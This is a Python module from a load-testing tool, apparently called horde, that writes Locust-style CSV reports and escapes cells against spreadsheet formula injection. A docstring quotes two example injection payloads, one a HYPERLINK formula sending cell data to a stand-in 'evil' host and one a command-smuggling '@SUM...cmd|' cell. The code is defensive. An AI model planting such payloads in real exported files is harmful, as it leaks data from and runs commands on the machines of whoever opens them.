"""CSV files with Locust's names and columns, so existing tooling reads them.

``PREFIX_stats.csv``, ``PREFIX_stats_history.csv``, ``PREFIX_failures.csv`` and
``PREFIX_exceptions.csv`` follow Locust; ``PREFIX_failure_samples.csv`` is horde's addition (the
concrete failures: URL, status, headers, body excerpt).

Names, URLs, messages, headers and bodies come from the target or from user code and end up in
a spreadsheet: every cell that a spreadsheet would run as a formula is neutralised (see
:func:`neutralise`), in the files and in the web UI's downloads alike (both come from
:func:`table`).
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import time
from collections.abc import Sequence
from pathlib import Path
from typing import IO, Any

from horde.exceptions import OutputError
from horde.reports import numbers
from horde.stats.snapshot import (
    PERCENTILES_TO_REPORT,
    EntrySnapshot,
    StatsSnapshot,
    percentile_label,
)

STATS_COLUMNS = [
    "Type",
    "Name",
    "Request Count",
    "Failure Count",
    "Median Response Time",
    "Average Response Time",
    "Min Response Time",
    "Max Response Time",
    "Average Content Size",
    "Requests/s",
    "Failures/s",
]
HISTORY_LEAD = ["Timestamp", "User Count", "Type", "Name", "Requests/s", "Failures/s"]
HISTORY_TAIL = [
    "Total Request Count",
    "Total Failure Count",
    "Total Median Response Time",
    "Total Average Response Time",
    "Total Min Response Time",
    "Total Max Response Time",
    "Total Average Content Size",
]
FAILURE_COLUMNS = ["Method", "Name", "Error", "Occurrences", "First Seen", "Last Seen"]
EXCEPTION_COLUMNS = ["Count", "Message", "Traceback", "Nodes"]
SAMPLE_COLUMNS = [
    "Method",
    "Name",
    "Error",
    "Time",
    "URL",
    "Status",
    "Response Headers",
    "Body Excerpt",
]


_num = numbers.text
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""First characters that make a spreadsheet evaluate a cell (OWASP's CSV injection list, plus
the full-width forms some spreadsheets accept too)."""
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(cell: str) -> str:
    """``cell``, with a leading ``'`` if a spreadsheet would take it for a formula.

    A response body ``=HYPERLINK("http://evil/?"&A1)`` or a URL name ``@SUM(1+1)*cmd|...`` would
    otherwise run when the CSV is opened. Plain numbers (``-5``, ``+1.5e3``) are left alone, so
    columns of numbers stay numbers; the quote makes the rest text (OWASP's recommendation).
    """
    if cell.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def safe_row(row: Sequence[str]) -> list[str]:
    """Every cell of ``row`` through :func:`neutralise`."""
    return [neutralise(cell) for cell in row]


def _iso(epoch: float) -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(epoch))


class CsvWriter:
    """Writes the CSV files for one run; history rows are appended once a second."""

    def __init__(
        self,
        prefix: str,
        *,
        full_history: bool = False,
        percentiles: Sequence[float] = PERCENTILES_TO_REPORT,
    ) -> None:
        self.prefix = prefix
        self.full_history = full_history
        self.percentiles = tuple(percentiles)
        self._labels = [percentile_label(p) for p in self.percentiles]
        parent = Path(prefix).parent
        try:
            parent.mkdir(parents=True, exist_ok=True)
            self._history_file: IO[str] = open(  # noqa: SIM115 - kept open for the whole run
                self.path("stats_history"), "w", newline="", encoding="utf-8"
            )
        except OSError as exc:
            raise OutputError(
                f"cannot write CSV files at {prefix!r}: {exc.strerror or exc}"
            ) from exc
        self._history = csv.writer(self._history_file)
        self._history.writerow([*HISTORY_LEAD, *self._labels, *HISTORY_TAIL])
        self._history_file.flush()

    def path(self, kind: str) -> Path:
        return Path(f"{self.prefix}_{kind}.csv")

    def append_history(self, snapshot: StatsSnapshot) -> None:
        """One row for Aggregated (and, with full history, one per name) at this second."""
        stamp = str(int(snapshot.time))
        rows = [*snapshot.entries, snapshot.total] if self.full_history else [snapshot.total]
        for entry in rows:
            self._history.writerow(
                safe_row(
                    [
                        stamp,
                        str(snapshot.user_count),
                        entry.method,
                        entry.name,
                        _num(entry.current_rps),
                        _num(entry.current_fail_per_sec),
                        *self._percentile_cells(entry),
                        str(entry.num_requests),
                        str(entry.num_failures),
                        _num(entry.median_response_time),
                        _num(entry.avg_response_time),
                        _num(entry.min_response_time),
                        _num(entry.max_response_time),
                        _num(entry.avg_content_length),
                    ]
                )
            )
        self._history_file.flush()

    def _percentile_cells(self, entry: EntrySnapshot) -> list[str]:
        return _percentile_cells(entry, self.percentiles)

    def write_tables(self, snapshot: StatsSnapshot) -> None:
        """(Re)write the stats, failures, exceptions and failure-sample files."""
        try:
            for kind in TABLES:
                self._write(kind, *table(kind, snapshot, self.percentiles))
            if snapshot.corrected_total is not None:  # arrival rate: times from intended starts
                corrected = dataclasses.replace(
                    snapshot, entries=snapshot.corrected, total=snapshot.corrected_total
                )
                self._write("stats_corrected", *table("stats", corrected, self.percentiles))
        except OSError as exc:
            raise OutputError(f"cannot write CSV files at {self.prefix!r}: {exc}") from exc

    def _write(self, kind: str, header: list[str], rows: list[list[str]]) -> None:
        target = self.path(kind)
        temp = target.with_suffix(".csv.tmp")
        with open(temp, "w", newline="", encoding="utf-8") as handle:
            writer = csv.writer(handle)
            writer.writerow(header)
            writer.writerows(rows)
        temp.replace(target)

    def close(self) -> None:
        self._history_file.close()


TABLES = ("stats", "failures", "exceptions", "failure_samples")
"""The CSV tables rewritten from a snapshot (history rows are appended separately)."""


def table(
    kind: str, snapshot: StatsSnapshot, percentiles: Sequence[float] = PERCENTILES_TO_REPORT
) -> tuple[list[str], list[list[str]]]:
    """``(header, rows)`` of one of :data:`TABLES`, every cell safe to open in a spreadsheet."""
    if kind == "stats":
        labels = [percentile_label(p) for p in percentiles]
        header, rows = [*STATS_COLUMNS, *labels], _stats_rows(snapshot, percentiles)
    elif kind == "failures":
        header, rows = FAILURE_COLUMNS, _failure_rows(snapshot)
    elif kind == "exceptions":
        header, rows = EXCEPTION_COLUMNS, _exception_rows(snapshot)
    elif kind == "failure_samples":
        header, rows = SAMPLE_COLUMNS, _sample_rows(snapshot)
    else:
        raise ValueError(f"no CSV table named {kind!r}")
    return header, [safe_row(row) for row in rows]


def render(kind: str, snapshot: StatsSnapshot) -> str:
    """One table as CSV text (for downloads)."""
    header, rows = table(kind, snapshot)
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def _percentile_cells(entry: EntrySnapshot, percentiles: Sequence[float]) -> list[str]:
    if not entry.num_requests:
        return ["N/A"] * len(percentiles)
    return [_num(entry.percentiles.get(p, 0.0)) for p in percentiles]


def _stats_rows(snapshot: StatsSnapshot, percentiles: Sequence[float]) -> list[list[str]]:
    return [
        [
            entry.method,
            entry.name,
            str(entry.num_requests),
            str(entry.num_failures),
            _num(entry.median_response_time),
            _num(entry.avg_response_time),
            _num(entry.min_response_time),
            _num(entry.max_response_time),
            _num(entry.avg_content_length),
            _num(entry.total_rps),
            _num(entry.total_fail_per_sec),
            *_percentile_cells(entry, percentiles),
        ]
        for entry in (*snapshot.entries, snapshot.total)
    ]


def _failure_rows(snapshot: StatsSnapshot) -> list[list[str]]:
    return [
        [g.method, g.name, g.error, str(g.occurrences), _iso(g.first_seen), _iso(g.last_seen)]
        for g in snapshot.errors
    ]


def _exception_rows(snapshot: StatsSnapshot) -> list[list[str]]:
    return [[str(r.count), r.msg, r.traceback, " ".join(r.nodes)] for r in snapshot.exceptions]


def _sample_rows(snapshot: StatsSnapshot) -> list[list[str]]:
    rows: list[list[Any]] = []
    for group in snapshot.errors:
        for s in group.samples:
            rows.append(
                [
                    group.method,
                    group.name,
                    group.error,
                    _iso(s.time),
                    s.url or "",
                    "" if s.status_code is None else str(s.status_code),
                    json.dumps(s.response_headers),
                    s.body_excerpt,
                ]
            )
    return rows
